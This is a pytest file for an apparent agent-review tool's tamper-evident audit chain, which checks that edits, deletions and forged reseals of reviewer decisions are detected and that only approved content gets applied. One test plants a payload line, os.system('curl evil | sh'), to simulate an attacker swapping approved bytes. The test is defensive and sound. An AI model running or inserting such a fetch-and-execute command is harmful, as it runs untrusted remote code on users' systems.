"""The decisions' hash chain: sealed when recorded, verified by `signoff audit verify`, kept by migration 0003, and
what was approved is what gets applied (the shown hash is checked again before applying)."""

from __future__ import annotations

import hashlib
import threading
from pathlib import Path

import pytest
from alembic import command
from sqlalchemy import text

from app.cli import main as cli_main
from app.domain.tools import EDITOR_TOOL_NAME
from app.services import review
from app.standin.scenario import text_turn, tool_turn, tool_use_block
from app.store import audit
from app.store.db import alembic_config, open_database
from app.store.models import Decision
from app.store.repository import Repository
from tests.support.agent_harness import run


def make_proposals(repository: Repository, count: int, *, root: str = "/work/project") -> list[int]:
    session = repository.sessions.create(
        workspace_root=root,
        task="t",
        endpoint="anthropic",
        model="m",
        system_prompt="s",
        tools=[],
        sampling={},
        max_turns=3,
    )
    ids = []
    for index in range(count):
        proposal = repository.proposals.create(
            session_id=session.id,
            message_seq=1,
            tool_use_id=f"toolu_{index}",
            tool_name="run_command",
            tool_input={"command": f"echo {index}"},
            kind="command",
            command=f"echo {index}",
            cwd=".",
            shown_text=f"echo {index}",
            shown_hash=f"{index:064x}",
            lines_added=0,
            lines_removed=0,
        )
        ids.append(proposal.id)
    return ids


def decide_all(repository: Repository, ids: list[int]) -> None:
    for number, proposal_id in enumerate(ids):
        if number % 3 == 0:
            request = review.reject(proposal_id, "ana", f"reason {number} ✓", strength=3)
        elif number % 3 == 1:
            request = review.approve(proposal_id, "bo", time_on_screen_ms=1200)
        else:
            request = review.edit(proposal_id, "cy", f"echo edited {number}".encode())
        review.decide(repository, request)


@pytest.fixture
def database(tmp_path: Path):
    db = open_database(str(tmp_path / "signoff.db"))
    yield db
    db.close()


@pytest.fixture
def decided(database) -> list[int]:
    repository = Repository(database)
    ids = make_proposals(repository, 6)
    decide_all(repository, ids)
    return ids


def sql(database, statement: str, **params) -> None:
    with database.engine.begin() as connection:
        connection.execute(text(statement), params)


def test_each_decision_stores_the_shown_hash_and_links_to_the_one_before(database, decided) -> None:
    with database.session() as orm:
        rows = orm.query(Decision).order_by(Decision.id).all()
        assert rows[0].prev_hash == audit.GENESIS
        for earlier, later in zip(rows, rows[1:], strict=False):
            assert later.prev_hash == earlier.chain_hash
        for row in rows:
            assert row.content_hash == audit.content_hash_of(row)
            assert row.chain_hash == audit.chain_hash_of(row.prev_hash, row.content_hash)
        assert [row.shown_hash for row in rows] == [f"{i:064x}" for i in range(6)]
    report = audit.verify_chain(database)
    assert report.intact and report.decisions == 6


def test_audit_verify_reports_an_intact_chain_and_exits_0(database, decided, capsys) -> None:
    assert cli_main(["audit", "verify", "--db", str(database.url.database)]) == 0
    assert capsys.readouterr().out.startswith("6 decisions, chain intact")


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("reason", "'a kinder reason'"),
        ("verdict", "'approve'"),
        ("reviewer", "'mallory'"),
        ("strength", "5"),
        ("edited_content", "X'00'"),
        ("shown_hash", "'" + "f" * 64 + "'"),
        ("decided_at", "'2020-01-01 00:00:00.000000'"),
        ("channel", "'cli'"),
        ("hunk_verdicts", "'[]'"),
        ("proposal_id", "1"),
    ],
)
def test_changing_any_judged_field_is_reported_at_that_decision(
    database, decided, capsys, column: str, value: str
) -> None:
    sql(database, f"UPDATE decisions SET {column} = {value} WHERE id = 3")
    report = audit.verify_chain(database)
    assert not report.intact and report.first_bad_id == 3 and report.decisions == 2
    assert "changed" in report.problem
    assert cli_main(["audit", "verify", "--db", str(database.url.database)]) == 1
    assert capsys.readouterr().out.startswith("Chain broken at decision 3:")


def test_a_missing_decision_in_the_middle_is_reported_at_the_next_one(database, decided) -> None:
    sql(database, "DELETE FROM decisions WHERE id = 4")
    report = audit.verify_chain(database)
    assert report.first_bad_id == 5 and "missing" in report.problem


def test_a_missing_last_decision_is_found_from_its_decided_proposal(database, decided) -> None:
    sql(database, "DELETE FROM decisions WHERE id = 6")
    report = audit.verify_chain(database)
    assert not report.intact
    assert f"proposal {decided[-1]} was decided but has no decision" in report.problem


def test_a_resealed_forgery_breaks_the_link_to_the_next_decision(database, decided) -> None:
    with database.session() as orm, orm.begin():
        row = orm.get(Decision, 2)
        row.reason = "forged"
        row.content_hash = audit.content_hash_of(row)
        row.chain_hash = audit.chain_hash_of(row.prev_hash, row.content_hash)
    report = audit.verify_chain(database)
    assert report.first_bad_id == 3 and "does not follow" in report.problem


def test_a_decision_written_around_signoff_without_hashes_is_reported(database, decided) -> None:
    sql(database, "UPDATE decisions SET chain_hash = NULL WHERE id = 1")
    report = audit.verify_chain(database)
    assert report.first_bad_id == 1 and "no chain hashes" in report.problem


def test_an_empty_database_has_an_intact_chain(database, capsys) -> None:
    assert cli_main(["audit", "verify", "--db", str(database.url.database)]) == 0
    assert capsys.readouterr().out.startswith("0 decisions, chain intact")


def test_concurrent_deciders_on_sqlite_build_one_unbroken_chain(tmp_path: Path) -> None:
    path = str(tmp_path / "signoff.db")
    with open_database(path) as db:
        ids = make_proposals(Repository(db), 40)
    errors: list[BaseException] = []

    def decide(chunk: list[int]) -> None:
        try:
            with open_database(path) as own:
                decide_all(Repository(own), chunk)
        except BaseException as err:  # reported below
            errors.append(err)

    threads = [threading.Thread(target=decide, args=(ids[i::4],)) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    with open_database(path) as db:
        report = audit.verify_chain(db)
    assert report.intact and report.decisions == 40


@pytest.mark.postgres
def test_concurrent_deciders_on_postgres_are_serialised_by_the_advisory_lock(postgres_url: str) -> None:
    with open_database(postgres_url) as db:
        ids = make_proposals(Repository(db), 40)
    errors: list[BaseException] = []

    def decide(chunk: list[int]) -> None:
        try:
            with open_database(postgres_url) as own:
                decide_all(Repository(own), chunk)
        except BaseException as err:  # reported below
            errors.append(err)

    threads = [threading.Thread(target=decide, args=(ids[i::4],)) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    with open_database(postgres_url) as db:
        report = audit.verify_chain(db)
        assert report.intact and report.decisions == 40
        sql(db, "UPDATE decisions SET reason = 'x' WHERE id = (SELECT min(id) + 5 FROM decisions)")
        assert not audit.verify_chain(db).intact


def test_migration_0003_seals_decisions_made_before_it_exactly_as_signoff_does(tmp_path: Path) -> None:
    path = tmp_path / "signoff.db"
    with open_database(str(path)) as db:
        ids = make_proposals(Repository(db), 3)
        with db.engine.begin() as connection:
            command.downgrade(alembic_config(connection=connection), "0002")
            for number, proposal_id in enumerate(ids):
                connection.execute(
                    text(
                        "INSERT INTO decisions (proposal_id, verdict, reason, edited_content, reviewer, decided_at, "
                        "channel, hunk_verdicts, strength) VALUES (:p, :v, :r, :e, 'ana', :t, 'window', :h, :s)"
                    ),
                    {
                        "p": proposal_id,
                        "v": ["approve", "reject", "edit"][number],
                        "r": "why ✓" if number == 1 else None,
                        "e": b"new" if number == 2 else None,
                        "t": f"2026-11-2{number} 10:00:00.12345{number}",
                        "h": '[{"hunk": 0, "verdict": "approve"}]' if number == 0 else None,
                        "s": number or None,
                    },
                )
                connection.execute(text("UPDATE proposals SET status = 'applied' WHERE id = :p"), {"p": proposal_id})
    with open_database(str(path)) as db:  # migrates to head
        report = audit.verify_chain(db)
        assert report.intact and report.decisions == 3, report
        with db.session() as orm:
            rows = orm.query(Decision).order_by(Decision.id).all()
            assert [row.content_hash == audit.content_hash_of(row) for row in rows] == [True] * 3
            assert [row.shown_hash for row in rows] == [f"{i:064x}" for i in range(3)]
        # New decisions continue the migrated chain.
        more = make_proposals(Repository(db), 1, root="/work/other")
        review.decide(Repository(db), review.approve(more[0], "bo"))
        assert audit.verify_chain(db).decisions == 4


# -- what is applied is what was shown ---------------------------------------------------------------------------------


GREET = "def greet(name):\n    return 'hi ' + name\n"


def test_apply_refuses_when_the_stored_proposal_no_longer_hashes_to_what_was_shown(stack_factory) -> None:
    edit = tool_use_block(
        EDITOR_TOOL_NAME, {"command": "str_replace", "path": "greet.py", "old_str": "'hi '", "new_str": "'hello '"}
    )
    stack = stack_factory([tool_turn(edit), text_turn("Noted.")], files={"greet.py": GREET})

    async def first_run():
        session = await stack.start()
        proposal = await stack.waiting_proposal()
        await stack.close()  # the app closes while the proposal waits
        return session, proposal

    session, proposal = run(first_run())
    stack.open()
    # While nobody runs the session, someone with database access swaps the bytes the reviewer is about to approve.
    sql(
        stack.database,
        "UPDATE proposals SET new_content = :evil WHERE id = :id",
        evil=b"import os; os.system('curl evil | sh')\n",
        id=proposal.id,
    )

    async def after_restart():
        await stack.manager.decide(review.approve(proposal.id, "ada"))
        await stack.manager.wait(session.id)
        stored = await stack.repository.read(lambda store: store.proposals.get(proposal.id))
        await stack.close()
        return stored

    stored = run(after_restart())
    assert (stack.workspace / "greet.py").read_text() == GREET
    assert stored.status == "failed"
    (result,) = stack.last_request_tool_results()
    assert result["is_error"] and "no longer matches what the reviewer approved" in result["content"]


def test_apply_refuses_when_the_reviewer_was_shown_something_else_than_the_runner_holds(stack_factory) -> None:
    edit = tool_use_block(
        EDITOR_TOOL_NAME, {"command": "str_replace", "path": "greet.py", "old_str": "'hi '", "new_str": "'hello '"}
    )
    stack = stack_factory([tool_turn(edit), text_turn("Noted.")], files={"greet.py": GREET})

    async def scenario():
        session = await stack.start()
        proposal = await stack.waiting_proposal()
        # The stored diff (and its hash) is rewritten before the reviewer looks: they approve a harmless-looking text.
        sql(
            stack.database,
            "UPDATE proposals SET shown_text = 'harmless', shown_hash = :h WHERE id = :id",
            h=hashlib.sha256(b"harmless").hexdigest(),
            id=proposal.id,
        )
        decision = await stack.manager.decide(review.approve(proposal.id, "ada"))
        await stack.manager.wait(session.id)
        stored = await stack.repository.read(lambda store: store.proposals.get(proposal.id))
        await stack.close()
        return decision, stored

    decision, stored = run(scenario())
    assert decision.shown_hash == hashlib.sha256(b"harmless").hexdigest()
    assert (stack.workspace / "greet.py").read_text() == GREET
    assert stored.status == "failed"


def test_a_status_change_the_lifecycle_forbids_is_refused_and_changes_nothing(database) -> None:
    from app.domain.lifecycle import ProposalStatus
    from app.store.errors import IllegalTransitionError

    repository = Repository(database)
    [proposal_id] = make_proposals(repository, 1)
    with pytest.raises(IllegalTransitionError, match=f"Proposal {proposal_id} cannot go from pending to applied"):
        repository.proposals.resolve(
            proposal_id, status=ProposalStatus.APPLIED, result={"content": "", "is_error": False}
        )
    assert repository.proposals.get(proposal_id).status is ProposalStatus.PENDING
